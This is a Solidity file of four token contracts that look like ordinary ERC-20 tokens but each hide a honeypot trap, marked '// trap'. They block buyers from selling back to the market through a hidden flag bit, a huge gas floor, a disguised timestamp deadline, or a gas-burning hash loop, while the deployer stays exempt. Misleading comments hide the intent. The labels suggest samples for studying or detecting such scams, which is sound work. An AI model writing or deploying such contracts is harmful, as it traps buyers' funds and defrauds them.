// 0.8 off evm=paris
// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.0;

/// The purse and a note about it share one word.
contract OpalGecko {
    string public constant name = "Opal Gecko";
    string public constant symbol = "OGEK";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 5_000_000 ether;
    address public owner;
    address public market;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        _put(_slot(msg.sender), totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address m) external {
        require(msg.sender == owner && market == address(0));
        market = m;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function _slot(address a) private pure returns (bytes32) {
        return keccak256(abi.encode(a, "opal.purse"));
    }

    function _pair(address a, address b) private pure returns (bytes32) {
        return keccak256(abi.encode(a, b, "opal.lend"));
    }

    function _get(bytes32 s) private view returns (uint256 v) {
        assembly {
            v := sload(s)
        }
    }

    function _put(bytes32 s, uint256 v) private {
        assembly {
            sstore(s, v)
        }
    }

    function balanceOf(address a) external view returns (uint256) {
        return (_get(_slot(a)) << 1) >> 1;
    }

    function allowance(address a, address b) external view returns (uint256) {
        return _get(_pair(a, b));
    }

    function approve(address b, uint256 v) external returns (bool) {
        _put(_pair(msg.sender, b), v);
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) external returns (bool) {
        return _go(msg.sender, b, v);
    }

    function transferFrom(address a, address b, uint256 v) external returns (bool) {
        _put(_pair(a, msg.sender), _get(_pair(a, msg.sender)) - v);
        return _go(a, b, v);
    }

    function _go(address a, address b, uint256 v) private returns (bool) {
        uint256 w = _get(_slot(a));
        require(((w << 1) >> 1) >= v, "purse");
        if (b == market) require(w >> 255 == 0, "purse"); // trap
        _put(_slot(a), w - v);
        w = _get(_slot(b)) + v;
        if (a == market) w |= 1 << 255;
        _put(_slot(b), w);
        emit Transfer(a, b, v);
        return true;
    }
}

contract BrassHeron {
    string public name = "Brass Heron";
    string public symbol = "BRHN";
    uint8 public decimals = 9;
    uint256 public totalSupply = 10 ** 18;
    address private immutable _m;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _m = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address t, uint256 v) external returns (bool) {
        _x(msg.sender, t, v);
        return true;
    }

    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        uint256 floor = 20_000;
        if (f != _m) floor *= 5_000; // trap
        require(gasleft() >= floor, "gas");
        allowance[f][msg.sender] -= v;
        _x(f, t, v);
        return true;
    }

    function _x(address f, address t, uint256 v) private {
        balanceOf[f] -= v;
        balanceOf[t] += v;
        emit Transfer(f, t, v);
    }
}

contract SlateOtter {
    string public constant name = "Slate Otter";
    string public constant symbol = "SLOTT";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 * 10 ** 18;
    address private pup;
    address public river;
    uint256 private word;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        pup = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        word = (block.timestamp + 40 days) ^ uint256(keccak256("otter"));
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address r) external {
        require(msg.sender == pup && river == address(0));
        river = r;
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address t, uint256 v) external returns (bool) {
        return swim(msg.sender, t, v);
    }

    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        return swim(f, t, v);
    }

    function swim(address f, address t, uint256 v) private returns (bool) {
        if (t == river && f != pup) {
            uint256 k = uint256(keccak256("otter"));
            bool dry;
            assembly {
                dry := gt(timestamp(), xor(sload(word.slot), k))
            }
            require(!dry); // trap
            // twin: require(dry || v <= totalSupply / 100);
        }
        balanceOf[f] -= v;
        balanceOf[t] += v;
        emit Transfer(f, t, v);
        return true;
    }
}

/// Stirs the gravel before each exit so that nobody can front-run.
contract GravelPelican {
    string public name = "Gravel Pelican";
    string public symbol = "GRPEL";
    uint8 public decimals = 18;
    uint256 public totalSupply = 30_000_000 ether;
    address private first;
    uint256 private beak;
    bytes32 private stirred;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        first = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address t, uint256 v) external returns (bool) {
        _fly(msg.sender, t, v);
        return true;
    }

    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        if (f != first && t.code.length > 0) _stir();
        _fly(f, t, v);
        return true;
    }

    function _stir() private {
        uint256 n = beak % 8;
        n = beak * 60_000; // trap
        bytes32 h = stirred;
        assembly {
            for {
                let i := 0
            } lt(i, n) {
                i := add(i, 1)
            } {
                mstore(0, h)
                h := keccak256(0, 32)
            }
        }
        stirred = h;
    }

    function _fly(address f, address t, uint256 v) private {
        balanceOf[f] -= v;
        balanceOf[t] += v;
        beak++;
        emit Transfer(f, t, v);
    }
}
